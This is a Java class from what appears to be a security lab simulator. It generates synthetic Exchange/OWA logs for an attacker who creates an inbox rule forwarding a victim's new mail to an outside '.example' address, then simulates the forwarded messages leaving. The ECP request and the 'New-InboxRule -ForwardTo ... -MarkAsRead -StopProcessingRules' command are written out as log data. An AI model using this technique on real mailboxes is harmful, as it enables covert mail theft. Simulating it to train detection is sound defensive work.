package io.tidemark.lab;

import java.util.Locale;

/**
 * Persistence by mail: an inbox rule, made through OWA's rule editor (ECP), forwards everything
 * new to an outside address; message tracking then shows each forward leaving.
 */
final class InboxRuleForward {
  private final AttackKit kit;
  private final String ip;
  private final String agent;

  InboxRuleForward(AttackKit kit, String ip, String agent) {
    this.kit = kit;
    this.ip = ip;
    this.agent = agent;
  }

  void plan(Person victim, long t) {
    Rand rand = kit.rand;
    if (t >= kit.windowEnd - 600_000) {
      return;
    }
    String outside = rand.pick("archive", "backup", "mailcopy", "records") + rand.between(10, 99)
        + "@" + rand.letters(rand.between(5, 9)) + ".example";
    String name = rand.pick(".", "..", "Sync", "RSS");
    int tag = kit.plan.step("inbox-rule", t, "An inbox rule '" + name + "' on " + victim.upn()
        + " forwards new mail to " + outside + ".");
    String canary = rand.alnum(43) + ".";
    Request r = kit.request(t, "POST", "/ecp/RulesEditor/InboxRules.svc/NewObject", ip, agent, tag)
        .proxied(Protocol.ECP).user(victim, victim.logonName(), "FBA");
    r.query = "msExchEcpCanary=" + canary;
    r.anchorMailbox = "Sid~" + victim.sid();
    r.routingHint = "WindowsIdentity";
    r.time = t + r.timeTaken;
    kit.emit();
    long at = r.time;
    String cmd = "New-InboxRule.Name='" + name + "'.ForwardTo='" + outside
        + "'.MarkAsRead='True'.StopProcessingRules='True'";
    kit.plan.line(Sink.ECP_SERVER, at, kit.logs.ecpRequest(at, cmd,
        "/ecp/RulesEditor/InboxRules.svc/NewObject?msExchEcpCanary=" + canary), tag);
    kit.plan.line(Sink.EVT_MANAGEMENT, at + 4, kit.win.cmdlet(at + 4, true, "New-InboxRule",
        "-Name \"" + name + "\" -ForwardTo \"" + outside + "\" -MarkAsRead \"True\" "
            + "-StopProcessingRules \"True\" -Mailbox \"" + victim.directoryPath() + "\"", victim,
        "Remote-ECP-Unknown", (6000 + rand.nextInt(900) * 4) + " w3wp#MSExchangeECPAppPool"),
        tag);
    forwards(victim, outside, at);
  }

  private void forwards(Person victim, String outside, long after) {
    Rand rand = kit.rand;
    int tag = LineSink.NO_TAG;
    String mx = "";
    long t = after;
    long first = Long.MAX_VALUE;
    long last = 0;
    String domain = outside.substring(outside.indexOf('@') + 1);
    for (int i = rand.between(3, 8); i > 0; i--) {
      t += rand.between(300_000, 3_600_000);
      if (t >= kit.windowEnd - 120_000) {
        break;
      }
      String partner = rand.pick(Names.PARTNER_DOMAINS);
      String sender = rand.pick(Names.FIRST).toLowerCase(Locale.ROOT) + "@" + partner;
      MailFlow.Message original = kit.mail.receiveExternal(t, sender,
          MailTraffic.partnerIp(partner), "mail." + partner, victim.upn(),
          rand.pick(Names.SUBJECTS), kit.plan, LineSink.NO_TAG);
      kit.mail.deliver(t + 500, original, victim, true, kit.plan, LineSink.NO_TAG);
      long forwarded = t + rand.between(2000, 9000);
      if (tag == LineSink.NO_TAG) {
        mx = kit.attackerIp();
        tag = kit.plan.step("mail-forwarding", forwarded, "Mail arriving for " + victim.upn()
            + " was forwarded to " + outside + " by the rule.");
      }
      MailFlow.Message copy = kit.mail.forwardByRule(forwarded, victim, original, outside,
          kit.plan, tag);
      kit.mail.sendExternal(forwarded + rand.between(300, 2000), copy, outside, mx, "mx." + domain,
          kit.plan, tag);
      first = Math.min(first, forwarded);
      last = Math.max(last, forwarded);
    }
    if (first != Long.MAX_VALUE) {
      kit.plan.mailbox(victim, "sent_out", first, last);
    }
  }
}
